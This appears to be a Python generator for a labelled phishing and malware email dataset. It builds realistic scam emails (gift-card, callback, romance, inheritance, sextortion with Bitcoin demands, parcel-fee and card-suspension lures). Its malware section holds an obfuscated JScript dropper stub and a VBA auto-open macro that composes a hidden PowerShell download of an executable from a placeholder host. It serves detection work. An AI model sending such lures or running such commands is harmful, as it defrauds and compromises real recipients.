        dkim(stem, dom, "s1", sent, h="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:List-Unsubscribe"),
        rcv(f"from localhost (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent, BERLIN),
    ]
    headers = f"""From: Lidl Treuebonus <aktion@{dom}>
To: {rcpt}
Subject: {qword("Ihr Lidl-Treuebonus: nur noch heute – 4 kurze Fragen")}
Date: {rfc(sent, BERLIN)}
Message-ID: <{hexs(stem + 'mid', 20)}@{dom}>
List-Unsubscribe: <mailto:abmelden@{dom}>
MIME-Version: 1.0"""
    emit(stem, "phishing",
         "German Lidl 'Weihnachts-Treuebonus, 4 Fragen, nur Versand zahlen' reward-survey scam from a throwaway domain (SPF/DKIM pass, flagged as spam by GMX); links go to an HTML page in a Google Cloud Storage bucket.",
         Inbound("gmx", rcpt, sent + timedelta(seconds=3), "31.214.157.90", f"mail.{dom}", f"aktion@{dom}",
                 dkim=[(dom, "s1", "pass")], dmarc="", hfrom=dom, spam=True),
         hops, headers, alt(plain, html, bnd(stem)))


def p34_walmart_gift_firebase() -> None:
    stem = "b50-phish-walmart-giftcard-firebase"
    rcpt = "lindsay.okoro@yahoo.com"
    dom = "rapidmailhub.co"
    sent = utc(2026, 3, 19, 4, 15, 30)
    link = (f"https://firebasestorage.googleapis.com/v0/b/wm-rwd-2026.appspot.com/o/claim%2Findex.html?alt=media&token={guid(stem + 'tok')}"
            f"#{b64url(rcpt, 9)}")
    plain = ("Hi,\n\nYour $500 Walmart gift card is ready to ship, but we still need you to confirm your delivery details.\n\n"
             f"Confirm delivery: {link}\n\nPlease confirm within 48 hours or the card will be released to the next winner.\n\nWalmart Rewards Center\n")
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:15px;color:#2e2f32;">
<table width="560" cellpadding="0" cellspacing="0"><tr><td style="background:#0071dc;color:#ffffff;padding:14px 20px;font-size:20px;font-weight:bold;">Walmart <span style="color:#ffc220;">&#10033;</span></td></tr>
<tr><td style="padding:20px;line-height:22px;">Hi,<br><br>Your <b>$500 Walmart gift card</b> is ready to ship, but we still need you to confirm your delivery details.</td></tr>
<tr><td style="padding:0 20px 20px 20px;"><a href="{link}" style="background:#ffc220;color:#2e2f32;padding:12px 28px;border-radius:20px;text-decoration:none;font-weight:bold;">Confirm delivery</a></td></tr>
<tr><td style="padding:0 20px 20px 20px;font-size:13px;color:#74767c;">Please confirm within 48 hours or the card will be released to the next winner.<br><br>Walmart Rewards Center</td></tr>
</table></body></html>
"""
    hops = [
        dkim(stem, dom, "mta7", sent, h="From:To:Subject:Date:Message-ID:In-Reply-To:MIME-Version:Content-Type"),
        rcv(f"from mta7.{dom} (localhost [127.0.0.1])\n\tby mta7.{dom} (Postfix) with ESMTP id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent),
    ]
    headers = f"""From: Walmart Rewards <winners@{dom}>
To: {rcpt}
Subject: Re: Your $500 Walmart gift card is waiting (confirm shipping)
Date: {rfc(sent)}
Message-ID: <{hexs(stem + 'mid', 24)}@{dom}>
In-Reply-To: <{hexs(stem + 'irt', 24)}@{dom}>
MIME-Version: 1.0"""
    emit(stem, "phishing",
         "'Re: your $500 Walmart gift card is waiting' fake-reply prize lure from a throwaway .co sender (SPF/DKIM pass); the confirm link is an HTML file on Firebase Storage leading to a 'shipping fee' card form.",
         Inbound("yahoo", rcpt, sent + timedelta(seconds=2), "192.3.162.77", f"mta7.{dom}", f"bounce@{dom}",
                 dkim=[(dom, "mta7", "pass")], dmarc="", hfrom=dom, spam=True),
         hops, headers, alt(plain, html, bnd(stem)))


def p35_norton_invoice_pdf() -> None:
    stem = "b50-phish-norton-invoice-callback"
    rcpt = "dwaynecarter.jr@gmail.com"
    sender = "lindseymcgrath4821@gmail.com"
    sent = utc(2024, 7, 24, 16, 47, 3)
    hops, mid = gmail_sent(stem, sent, "gmail.com")
    pdf = files.pdf([
        "NortonLifeLock  -  INVOICE", "",
        "Invoice No: NL-48810294                     Date: 07/24/2024",
        "Customer ID: NLC-7720-1193", "",
        "Product                          Term          Qty     Amount",
        "Norton 360 Deluxe + LifeLock     3 Years       1       $399.99",
        "Sales tax                                              $0.00",
        "TOTAL CHARGED                                          $399.99", "",
        "Payment method: Auto-debit (card on file)", "",
        "Your subscription has been renewed automatically and the amount will",
        "appear on your statement within 24-48 hours.", "",
        "To cancel and receive a refund, call our billing desk within 24 hours:",
        "+1 (888) 416-2907   (Mon-Sun, 24/7)", "",
        "Thank you for choosing Norton.",
    ], title="Invoice NL-48810294")
    plain = ("Hello,\n\nThank you for your order. Your invoice is attached for your records.\n\n"
             "If you have any questions regarding this transaction, please contact our billing support.\n\nRegards,\nBilling Department\n")
    html = ('<div dir="ltr"><div>Hello,</div><div><br></div><div>Thank you for your order. Your invoice is attached for your records.</div>'
            '<div><br></div><div>If you have any questions regarding this transaction, please contact our billing support.</div>'
            '<div><br></div><div>Regards,</div><div>Billing Department</div></div>\n')
    headers = f"""MIME-Version: 1.0
From: Norton Billing Dept <{sender}>
Date: {rfc(sent, NEWYORK)}
Message-ID: {mid}
Subject: Your order #NL-48810294 has been processed
To: {rcpt}"""
    body = Multi("mixed", bnd(stem, "gmail", 1), [
        alt(plain, html, bnd(stem, "gmail", 2)),
        Leaf("application/pdf", pdf, "base64", '; name="INV_NL-48810294.pdf"', 'attachment; filename="INV_NL-48810294.pdf"',
             [f"Content-ID: <f_{alnum(stem + 'fid', 9, LOWERNUM)}0>", f"X-Attachment-Id: f_{alnum(stem + 'fid', 9, LOWERNUM)}0"]),
    ])
    emit(stem, "phishing",
         "Norton 360 '$399.99 auto-renewal' invoice callback scam from a free Gmail account: a bland body and a PDF invoice whose only call to action is a phone number to 'cancel and get a refund'.",
         Inbound("gmail", rcpt, sent + timedelta(seconds=1), "209.85.220.65", "mail-sor-f65.google.com", sender,
                 dkim=[("gmail.com", "20230601", "pass")], dmarc="pass", policy="NONE", hfrom="gmail.com"),
         hops, headers, body)


def p36_geeksquad_plain() -> None:
    stem = "b50-phish-geeksquad-renewal-plain"
    rcpt = "rgoldbergfamily@aol.com"
    sender = "inv.dept.services2025@gmail.com"
    sent = utc(2025, 11, 18, 15, 2, 48)
    hops, mid = gmail_sent(stem, sent, "aol.com")
    body = ("Dear Customer,\n\n"
            "Your Geek Squad Total Tech Support membership has been renewed successfully.\n\n"
            "Ref: GS-88392114\nPlan: 2 Years Protection - 5 Devices\nAmount: USD 489.99\nPayment: Auto-debit\n\n"
            "If you wish to cancel this renewal or did not authorize it, reach our support team at\n"
            "+1 ( 8 0 8 ) - 4 3 9 - 2 2 1 7\n\n"
            "Refunds can only be processed within 24 hours of this notice.\n\n"
            "Thanks,\nBilling Team\n")
    headers = f"""MIME-Version: 1.0
From: Geek Squad Renewal <{sender}>
Date: {rfc(sent, NEWYORK)}
Message-ID: {mid}
Subject: Subscription auto-renewed - Ref 88392114
To: undisclosed-recipients:;
Bcc: {rcpt}"""
    emit(stem, "phishing",
         "Plain-text Geek Squad 'membership renewed, $489.99' callback scam from a free Gmail address sent by Bcc, with the phone number spaced out to dodge number detection.",
         Inbound("aol", rcpt, sent + timedelta(seconds=1), "209.85.214.178", "mail-pl1-f178.google.com", sender,
                 dkim=[("gmail.com", "20230601", "pass")], dmarc="pass", policy="NONE", hfrom="gmail.com"),
         hops, headers, text(body, "plain", "7bit"))


def p37_dating_opener_photo() -> None:
    stem = "b50-phish-dating-opener-photo"
    rcpt = "pete.hollis@yahoo.co.uk"
    sender = "katya.lovely88@gmx.com"
    sent = utc(2024, 11, 29, 8, 21, 40)
    hops, mid, tailinfo = gmx_sent(stem, sent, sender, "37.214.61.108", "gmxcom")
    tail = tailinfo.split("|")[2]
    link = "https://meetlocal-singles.online/p/katya31?ref=ml"
    html = f"""<html><head></head><body><div style="font-family: Verdana;font-size: 12.0px;"><div>Hi!</div>

<div>&nbsp;</div>

<div>I found your email address on a dating site some time ago but I was too shy to write you first :) My name is Katya, I am 31 and I live in Minsk now, but soon I plan to move to the UK for work.</div>

<div>&nbsp;</div>

<div>I am looking for serious relationship with a kind and honest man. I attach one my photo, I hope you like it.</div>

<div>&nbsp;</div>

<div>I don't check this mail often, it's better to write me on my profile, there are more my photos and videos: <a href="{link}" target="_blank">{link}</a></div>

<div>&nbsp;</div>

<div>Waiting your answer,</div>

<div>Katya</div></div></body></html>
"""
    headers = f"""MIME-Version: 1.0
Message-ID: {mid}
From: Katya <{sender}>
To: {rcpt}
Subject: Hello from Katya :)
Date: {rfc(sent, BERLIN)}
{tail}"""
    body = Multi("mixed", f"abmob-{guid(stem + 'abm')}", [
        text(html, "html"),
        attachment("image/jpeg", "IMG_2831.jpg", files.photo_jpeg(31)),
    ])
    emit(stem, "phishing",
         "Romance/dating opener from a free gmx.com mailbox ('I found your address on a dating site', one holiday photo attached) that steers the target to a fake dating profile site that asks for card 'verification'.",
         Inbound("yahoo", rcpt, sent + timedelta(seconds=3), "212.227.15.19", "mout.gmx.com", sender,
                 dkim=[("gmx.com", "s1089575", "pass")], dmarc="pass", policy="QUARANTINE", hfrom="gmx.com"),
         hops, headers, body)


def p38_romance_de_hotmail() -> None:
    stem = "b50-phish-romance-witwer-de"
    rcpt = "gisela.haubold@gmx.de"
    sender = "daniel.hartmann.eng@hotmail.com"
    sent = utc(2025, 2, 14, 19, 10, 6)
    hops, mid, tix = outlook_sent(stem, sent, "hotmail.com", eu=True)
    paragraphs = [
        "Hallo liebe Gisela,", "<br>",
        "bitte entschuldigen Sie, dass ich Ihnen einfach so schreibe. Ich habe Ihr Profil vor einiger Zeit gesehen und Ihr freundliches L&auml;cheln nicht vergessen.",
        "<br>",
        "Mein Name ist Daniel Hartmann, ich bin 61 Jahre alt, Witwer und arbeite als Bauingenieur auf einer &Ouml;lplattform vor der K&uuml;ste von Aberdeen. "
        "Meine Frau ist vor vier Jahren an Krebs gestorben und seitdem f&uuml;hle ich mich sehr einsam. Mein Sohn studiert in Kanada.",
        "<br>",
        "Ich suche keine Abenteuer, sondern eine ehrliche Frau, mit der ich die restlichen Jahre teilen kann. Mein Vertrag endet in drei Monaten, dann m&ouml;chte ich zur&uuml;ck nach Deutschland ziehen.",
        "<br>",
        "Wenn Sie m&ouml;chten, schreiben Sie mir bitte an meine private Adresse daniel.hartmann1967@gmail.com, dort kann ich von der Plattform besser antworten.",
        "<br>", "Ich w&uuml;nsche Ihnen einen sch&ouml;nen Valentinstag.", "<br>", "Herzliche Gr&uuml;&szlig;e", "Daniel",
    ]
    import html as _html
    plain = "\n".join("" if p == "<br>" else _html.unescape(p) for p in paragraphs) + "\n"
    headers = f"""From: Daniel Hartmann <{sender}>
To: "{rcpt}" <{rcpt}>
Reply-To: daniel.hartmann1967@gmail.com
Subject: Hallo Gisela
Thread-Topic: Hallo Gisela
Thread-Index: {tix}
Date: {rfc(sent)}
Message-ID: {mid}
{outlook_sent_tail(stem, 'de-DE')}
MIME-Version: 1.0"""
    emit(stem, "phishing",
         "German romance-scam opener from a free Hotmail account: a lonely widowed engineer 'on an oil platform' writes on Valentine's Day and asks for replies to a different Gmail address via Reply-To, the set-up for later money requests.",
         Inbound("gmx", rcpt, sent + timedelta(seconds=3), "40.92.90.12", "mail-vi1eur05olkn2012.outbound.protection.outlook.com", sender,
                 dkim=[("hotmail.com", "selector1", "pass")], dmarc="pass", policy="NONE", hfrom="hotmail.com"),
         hops, headers, alt(plain, outlook_html(paragraphs), bnd(stem, "outlook")))


def p39_sextortion_selfspoof() -> None:
    stem = "b50-phish-sextortion-selfspoof"
    rcpt = "jordan.whitfield1987@outlook.com"
    sent = utc(2024, 6, 4, 4, 4, 51)
    wallet = btc_address(stem + "btc")
    body = (f"Hello!\n\nAs you may have noticed, I sent you this email from your own account: {rcpt}.\n"
            "This means I have full access to your account.\n\n"
            "I have been watching you for a few months now. You were infected with malware through an adult site that you visited. "
            "While you were watching videos, your browser started working as an RDP that gave me access to your screen and webcam.\n\n"
            "I made a double-screen video: one part shows the video you were watching, the other part shows you through your webcam.\n\n"
            "I am ready to delete everything, but you must transfer $1450 USD to my Bitcoin wallet. Copy and paste it exactly:\n\n"
            f"{wallet}\n\n"
            "You have 48 hours after opening this letter. I get a notification when you read it. If I do not receive the payment, "
            "the video will be sent to all your contacts and social networks.\n\n"
            "Do not try to reply, this address is generated. Do not go to the police, I will know.\n")
    hops = [rcv(f"from [177.54.144.91] (helo=177-54-144-91.static.brnet.com.br)\n\tby 177-54-144-91.static.brnet.com.br with esmtpa (Exim 4.94)\n\tid 1sESbl-0003Xr-Ma\n\tfor {rcpt}", sent)]
    headers = f"""From: {rcpt}
To: {rcpt}
Subject: {rcpt.split('@')[0]}: your account is compromised. Change your password.
Date: {rfc(sent)}
Message-ID: <{hexs(stem + 'mid', 16)}.{digits(stem + 'mid2', 6)}@outlook.com>
MIME-Version: 1.0"""
    emit(stem, "phishing",
         "Sextortion 'I sent this from your own account, pay $1450 in Bitcoin' with From forged as the recipient's own Outlook address, sent from a Brazilian residential host (SPF fail, DMARC fail).",
         Inbound("outlook", rcpt, sent + timedelta(seconds=2), "177.54.144.91", "", rcpt, helo="177-54-144-91.static.brnet.com.br",
                 spf="fail", dkim=[], dmarc="fail", policy="NONE", hfrom="outlook.com", spam=True, country="BR"),
         hops, headers, text(body, "plain", "7bit"))


def p40_sextortion_de_polish() -> None:
    stem = "b50-phish-sextortion-de"
    rcpt = "heike.brandstaetter@gmx.de"
    dom = "oknex-serwis.pl"
    sent = utc(2025, 6, 26, 1, 33, 17)
    wallet = btc_address(stem + "btc")
    body = ("Hallo Heike,\n\n"
            "ich mache es kurz. Vor einigen Monaten habe ich über eine Schwachstelle in Ihrem Router Zugriff auf Ihre Geräte erhalten. "
            "Seitdem sehe ich alles, was Sie tun: Ihre Nachrichten, Ihre Kontakte, Ihre Fotos und Ihre Kamera.\n\n"
            "Ich habe Aufnahmen von Ihnen, die Sie bestimmt nicht mit Ihrer Familie und Ihren Kollegen teilen möchten.\n\n"
            "Überweisen Sie 1.380 EUR in Bitcoin (BTC) an folgende Adresse:\n\n"
            f"{wallet}\n\n"
            "Wie man Bitcoin kauft, finden Sie leicht bei Google. Sie haben 50 Stunden Zeit. Sobald die Zahlung eingegangen ist, "
            "lösche ich alles und Sie hören nie wieder von mir. Andernfalls erhalten alle Ihre Kontakte das Material.\n\n"
            "Antworten Sie nicht auf diese E-Mail und gehen Sie nicht zur Polizei.\n")
    hops = [
        dkim(stem, dom, "x", sent, h="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:Content-Transfer-Encoding"),
        rcv(f"from [193.32.162.19] (unknown [193.32.162.19])\n\t(Authenticated sender: kontakt@{dom})\n\tby serwer2391847.home.pl (Postfix) with ESMTPSA id 4bS{alnum(stem + 'q', 9)}\n\tfor <{rcpt}>", sent, ZoneInfo("Europe/Warsaw")),
    ]
    headers = f"""From: =?UTF-8?Q?Unbekannt?= <kontakt@{dom}>
To: {rcpt}
Subject: {qword("Heike Brandstätter – Zahlung ausstehend")}
Date: {rfc(sent, ZoneInfo("Europe/Warsaw"))}
Message-ID: <{hexs(stem + 'mid', 20)}@{dom}>
MIME-Version: 1.0"""
    emit(stem, "phishing",
         "German sextortion mail addressing the victim by full name and demanding 1,380 EUR in Bitcoin, sent through the hijacked mailbox of a Polish window firm on home.pl (SPF/DKIM pass).",
         Inbound("gmx", rcpt, sent + timedelta(seconds=2), "46.242.240.61", "serwer2391847.home.pl", f"kontakt@{dom}",
                 dkim=[(dom, "x", "pass")], dmarc="", hfrom=dom, country="PL"),
         hops, headers, text(body, "plain", "quoted-printable"))


def p41_inheritance_barrister() -> None:
    stem = "b50-phish-inheritance-barrister"
    rcpt = "donna_kessler52@yahoo.com"
    sender = "kelvin.adebayo.chambers@outlook.com"
    sent = utc(2024, 2, 1, 10, 6, 33)
    hops, mid, tix = outlook_sent(stem, sent, "outlook.com")
    paragraphs = [
        "Dear Kessler,", "<br>",
        "I am Barrister Kelvin Adebayo, a solicitor at law and the personal attorney to the late Engr. Robert Kessler, "
        "a national of your country, who worked as an oil contractor with the Shell Petroleum Development Company here in Lome, Togo.",
        "<br>",
        "My client, his wife and their only daughter were involved in a car accident on the Lome-Kpalime road in 2019. "
        "Since then I have made several unsuccessful attempts to locate any of his extended relatives.",
        "<br>",
        "I am contacting you because you share the same last name, to assist in repatriating the sum of US$8,500,000.00 "
        "left behind by my client before the bank declares the deposit unclaimed. I have all the legal documents to back up any claim we make.",
        "<br>",
        "All I require is your honest cooperation. Please reply to my private email barristerkelvinadebayo@gmail.com with your full name, "
        "address and phone number for more details.",
        "<br>", "Best regards,", "Barr. Kelvin Adebayo (Esq.)", "Adebayo &amp; Associates Chambers",
    ]
    import html as _html
    plain = "\n".join("" if p == "<br>" else _html.unescape(p) for p in paragraphs) + "\n"
    headers = f"""From: "Barr. Kelvin Adebayo" <{sender}>
To: {rcpt}
Reply-To: barristerkelvinadebayo@gmail.com
Subject: Attention: Estate of Late Engr. Robert Kessler
Thread-Topic: Attention: Estate of Late Engr. Robert Kessler
Thread-Index: {tix}
Date: {rfc(sent)}
Message-ID: {mid}
{outlook_sent_tail(stem)}
MIME-Version: 1.0"""
    emit(stem, "phishing",
         "Advance-fee inheritance letter from a 'barrister' in Togo offering $8.5M of a 'deceased relative with the same surname', sent from free Outlook.com with a Gmail Reply-To asking for personal details.",
         Inbound("yahoo", rcpt, sent + timedelta(seconds=3), "40.92.19.34", "mail-dm6nam11olkn2034.outbound.protection.outlook.com", sender,
                 helo="NAM11-DM6-obe.outbound.protection.outlook.com",
                 dkim=[("outlook.com", "selector1", "pass")], dmarc="pass", policy="NONE", hfrom="outlook.com"),
         hops, headers, alt(plain, outlook_html(paragraphs), bnd(stem, "outlook")))


def p42_don_fr_gmail() -> None:
    stem = "b50-phish-don-heritage-fr"
    rcpt = "claire.dubois.71@hotmail.fr"
    sender = "helene.vautrin.dons@gmail.com"
    sent = utc(2025, 8, 19, 12, 37, 25)
    hops, mid = gmail_sent(stem, sent, "hotmail.fr")
    plain = ("Bonjour,\n\n"
             "Je me nomme Mme Hélène Vautrin, j'ai 68 ans et je suis veuve. Je vous écris depuis mon lit d'hôpital à Abidjan "
             "où je suis soignée pour un cancer de la gorge en phase terminale. Mes médecins ne me donnent que quelques semaines.\n\n"
             "Je n'ai pas d'enfant et je souhaite faire don de la somme de 850 000 € qui se trouve sur un compte bloqué "
             "à une personne honnête qui l'utilisera en partie pour aider les orphelins et les personnes dans le besoin.\n\n"
             "Si vous acceptez cette offre, merci de me répondre rapidement avec vos nom, prénom, adresse et numéro de téléphone "
             "afin que mon notaire puisse établir l'acte de donation à votre nom.\n\n"
             "Que Dieu vous bénisse.\nMme Hélène Vautrin\n")
    import html as _html
    html = '<div dir="ltr">' + "".join(f"<div>{_html.escape(l)}</div>" if l else "<div><br></div>"
                                       for l in plain.rstrip("\n").split("\n")) + "</div>\n"
    headers = f"""MIME-Version: 1.0
Reply-To: {qword("Hélène Vautrin")} <helenevautrin.notaire@proton.me>
From: {qword("Hélène Vautrin")} <{sender}>
Date: {rfc(sent, PARIS)}
Message-ID: {mid}
Subject: Don humanitaire - merci de me lire
To: {rcpt}"""
    emit(stem, "phishing",
         "French advance-fee 'donation of 850 000 € from a dying widow' sent from free Gmail with a Proton Mail Reply-To, fishing for the victim's identity and a reply that leads to 'notary fees'.",
         Inbound("outlook", rcpt, sent + timedelta(seconds=2), "209.85.218.54", "mail-ej1-f54.google.com", sender,
                 dkim=[("gmail.com", "20230601", "pass")], dmarc="pass", policy="NONE", hfrom="gmail.com", lang="fr"),
         hops, headers, alt(plain, html, bnd(stem, "gmail")))


def p43_colissimo_fr() -> None:
    stem = "b50-phish-colissimo-frais"
    rcpt = "nathalie.perrot33@gmail.com"
    dom = "suivi-colissimo-fr.com"
    sent = utc(2024, 9, 30, 7, 12, 48)
    link = f"https://colissimo.fr-reprogrammer-livraison.info/suivi/?n=6A{digits(stem + 'n', 11)}"
    plain = ("Colissimo\n\nBonjour,\n\nVotre colis n° 6A24871930562 est en attente de livraison.\n"
             "Des frais d'affranchissement complémentaires de 1,99 € n'ont pas été réglés.\n\n"
             f"Pour reprogrammer la livraison, veuillez régler ces frais :\n{link}\n\n"
             "Sans action de votre part sous 72 heures, le colis sera retourné à l'expéditeur.\n\nL'équipe Colissimo\n")
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f0f0f0;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:18px 0;">
<table width="580" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,sans-serif;font-size:14px;line-height:21px;color:#333333;">
<tr><td style="padding:16px 22px;border-bottom:3px solid #ffd100;font-size:22px;font-weight:bold;color:#003da5;">colissimo</td></tr>
<tr><td style="padding:22px;">Bonjour,<br><br>Votre colis n&deg; <b>6A24871930562</b> est en attente de livraison.<br>Des frais d'affranchissement compl&eacute;mentaires de <b>1,99&nbsp;&euro;</b> n'ont pas &eacute;t&eacute; r&eacute;gl&eacute;s.</td></tr>
<tr><td style="padding:0 22px 20px 22px;"><a href="{link}" style="background:#003da5;color:#ffffff;padding:12px 26px;text-decoration:none;font-weight:bold;">Reprogrammer ma livraison</a></td></tr>
<tr><td style="padding:0 22px 22px 22px;">Sans action de votre part sous 72 heures, le colis sera retourn&eacute; &agrave; l'exp&eacute;diteur.<br><br>L'&eacute;quipe Colissimo</td></tr>
</table></td></tr></table></body></html>
"""
    hops = [
        dkim(stem, dom, "default", sent, h="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
        rcv(f"from localhost (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent, PARIS),
    ]
    headers = f"""From: Colissimo <suivi@{dom}>
To: {rcpt}
Subject: Votre colis est en attente de livraison
Date: {rfc(sent, PARIS)}
Message-ID: <{hexs(stem + 'mid', 24)}@{dom}>
MIME-Version: 1.0"""
    emit(stem, "phishing",
         "French Colissimo 'frais d'affranchissement 1,99 € impayés' parcel-fee lure from a look-alike domain (SPF/DKIM pass); the link uses a colissimo.fr- prefixed .info host that asks for card details.",
         Inbound("gmail", rcpt, sent + timedelta(seconds=2), "185.244.29.175", f"mail.{dom}", f"suivi@{dom}",
                 dkim=[(dom, "default", "pass")], dmarc="", hfrom=dom),
         hops, headers, alt(plain, html, bnd(stem)))


def p44_amex_onmicrosoft_sharepoint() -> None:
    stem = "b50-phish-amex-onmicrosoft-sharepoint"
    rcpt = "mbrennan.home@gmail.com"
    tenant = "amexnotify2026"
    dom = f"{tenant}.onmicrosoft.com"
    sender = f"secure@{dom}"
    sent = utc(2026, 1, 29, 18, 20, 4)
    link = f"https://{tenant}-my.sharepoint.com/:b:/g/personal/secure_{tenant}_onmicrosoft_com/E{alnum(stem + 'sp', 45, ALNUM + '_-')}?e={alnum(stem + 'spe', 6)}"
    hops, mid, tix = outlook_sent(stem, sent, dom)
    hops[2] = (f"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass\n smtp.mailfrom={dom}; dmarc=pass action=none\n"
               f" header.from={dom}; dkim=pass header.d={dom}; arc=none")
    hops[3] = dkim(stem, dom, f"selector1-{tenant}-onmicrosoft-com", sent,
                   h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")
    paragraphs = [
        '<span style="font-size:18pt;color:#006fcf;"><b>AMERICAN EXPRESS</b></span>', "<br>",
        "Important: We've temporarily suspended your Card", "<br>",
        "We noticed unusual activity on your Card account and, to protect you, we have temporarily suspended your Card. "
        "A secure document with the details of the flagged transactions has been shared with you.", "<br>",
        f'<a href="{link}">Review secure document</a>', "<br>",
        "Please review the document and confirm your details within 24 hours to restore your Card.", "<br>",
        "American Express Customer Care",
    ]
    import html as _html
    import re as _re
    plain = "\n".join("" if p == "<br>" else _html.unescape(_re.sub(r"<[^>]+>", "", p)) for p in paragraphs)
    plain = plain.replace("Review secure document", f"Review secure document <{link}>") + "\n"
    headers = f"""From: American Express <{sender}>
To: "{rcpt}" <{rcpt}>
Subject: Important: We've temporarily suspended your Card
Thread-Topic: Important: We've temporarily suspended your Card
Thread-Index: {tix}
Date: {rfc(sent)}
Message-ID: {mid}
{outlook_sent_tail(stem)}
MIME-Version: 1.0"""
    emit(stem, "phishing",
         "American Express 'we've temporarily suspended your Card' sent from a throwaway Microsoft 365 trial tenant (*.onmicrosoft.com, SPF/DKIM pass) with a link to a SharePoint-shared 'secure document' that carries the phishing link.",
         Inbound("gmail", rcpt, sent + timedelta(seconds=2), "40.107.212.112", "mail-bn1nam02on2112.outbound.protection.outlook.com", sender,
                 helo="NAM02-BN1-obe.outbound.protection.outlook.com",
                 dkim=[(dom, f"selector1-{tenant}-onmicrosoft-com", "pass")], dmarc="", hfrom=dom),
         hops, headers, alt(plain, outlook_html(paragraphs), bnd(stem, "outlook")))


# --------------------------------------------------------------------------
# malware (the payloads are inert stand-ins)
# --------------------------------------------------------------------------

JS_DROPPER = r"""// Rechnung RE-2024-0417
var _0x4a1f = ["\x57\x53\x63\x72\x69\x70\x74\x2E\x53\x68\x65\x6C\x6C", "\x4D\x53\x58\x4D\x4C\x32\x2E\x58\x4D\x4C\x48\x54\x54\x50",
  "\x41\x44\x4F\x44\x42\x2E\x53\x74\x72\x65\x61\x6D", "\x25\x54\x45\x4D\x50\x25"];
var q = "h" + "tt" + "ps://rechnung-portal-cdn.invalid/re/" + "0417" + ".dat";
function _p(a, b) { return a + b; }
function _k() { /* stage loader removed from the sample; strings kept for detection only */ return [_0x4a1f[0], _0x4a1f[1], q]; }
var _z = _p("Rech", "nung");
"""

MACRO = """Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
    Dim s As String
    s = "pow" & "ershell -w hidden -nop -c " & Chr(34) & "iwr hxxp://nebenkosten-abrechnung.invalid/nk23.png -OutFile $env:TEMP\\nk.exe" & Chr(34)
    ' sample only: the command is never executed
    Debug.Print s
End Sub
Sub Document_Open()
    AutoOpen
End Sub
"""


def m45_rechnung_js_zip() -> None:
    stem = "b50-phish-rechnung-js-zip"
    rcpt = "juergen.wollny@web.de"
    dom = "elektro-hasselbach.de"
    sender = f"buchhaltung@{dom}"
    sent = utc(2024, 4, 16, 10, 12, 4)
    archive = files.zip_archive([("RE-2024-0417.js", JS_DROPPER.encode())])
    plain = ("Sehr geehrte Damen und Herren,\n\n"
             "leider konnten wir bis heute keinen Zahlungseingang für unsere Rechnung Nr. RE-2024-0417 vom 28.03.2024 feststellen.\n\n"
             "Die Rechnung finden Sie im Anhang. Wir bitten um Begleichung des offenen Betrags von 1.284,35 EUR innerhalb von 5 Werktagen.\n\n"
             "Sollten Sie die Zahlung bereits veranlasst haben, betrachten Sie dieses Schreiben bitte als gegenstandslos.\n\n"
             "Mit freundlichen Grüßen\n\nSabine Krüger\nBuchhaltung\nElektro Hasselbach GmbH\nIndustriestr. 14, 34123 Kassel\n")
    arc_t = ts(sent)
    hops = [
        f"ARC-Seal: i=1; a=rsa-sha256; t={arc_t}; cv=none;\n    d=strato.com; s=strato-dkim-0002;\n    b={fold_token(b64(stem + 'sarc', 256), '    ', 58, 70)}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; t={arc_t};\n    s=strato-dkim-0002; d=strato.com;\n    h=Subject:To:From:Date:Message-ID:Cc:Date:From:Subject:Sender;\n    bh={b64(stem + 'sarcbh', 32)};\n    b={fold_token(b64(stem + 'sarcb', 256), '    ', 58, 70)}",
        "ARC-Authentication-Results: i=1; strato.com;\n    arc=none;\n    dkim=none",
        "X-RZG-CLASS-ID: mo00",
        dkim(stem, dom, "strato-dkim-0002", sent, h="Subject:To:From:Date:Message-ID:Cc:Date:From:Subject:Sender"),
        f"X-RZG-AUTH: \":{alnum(stem + 'rzg', 40, ALNUM + '+/=')}\"",
        rcv(f"from [192.168.178.23]\n    by smtp.strato.de (RZmta 50.3.2 AUTH)\n    with ESMTPSA id x9c1a2033{alnum(stem + 'rz', 6)}\n    (using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256 bits))\n    (Client did not present a certificate)\n    for <{rcpt}>", sent, BERLIN),
    ]
    headers = f"""Message-ID: <{guid(stem + 'mid')}@{dom}>
Date: {rfc(sent, BERLIN)}
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: de-DE
To: {rcpt}
From: Elektro Hasselbach GmbH <{sender}>
Subject: Zahlungserinnerung Rechnung Nr. RE-2024-0417"""
    body = Multi("mixed", f"------------{alnum(stem + 'tb', 24)}", [
        text(plain, "plain", "8bit"),
        attachment("application/zip", "RE-2024-0417.zip", archive),
    ])
    emit(stem, "malware",
         "German 'Zahlungserinnerung' from the hijacked Strato mailbox of an electrical contractor (SPF/DKIM pass) carrying a ZIP with an obfuscated JScript file named like the invoice: a script dropper (payload stage removed).",
         Inbound("webde", rcpt, sent + timedelta(seconds=2), "81.169.146.160", "mo4-p00-ob.smtp.rzone.de", sender,
                 dkim=[(dom, "strato-dkim-0002", "pass")], dmarc="", hfrom=dom),
         hops, headers, body)


def m46_dhl_iso_lnk() -> None:
    stem = "b50-phish-dhl-awb-iso"
    rcpt = "eleanor.pryce@hotmail.co.uk"
    dom = "dhl-shipmentdocs.com"
    sent = utc(2024, 5, 29, 8, 48, 20)
    lnk = files.lnk_shortcut(r"C:\Windows\System32\rundll32.exe", r"x86.dll,DllRegisterServer")
    iso = files.iso_image([("DHL_AWB_7738201944.lnk", lnk), ("x86.dll", files.pe_stub())], "DHL_AWB")
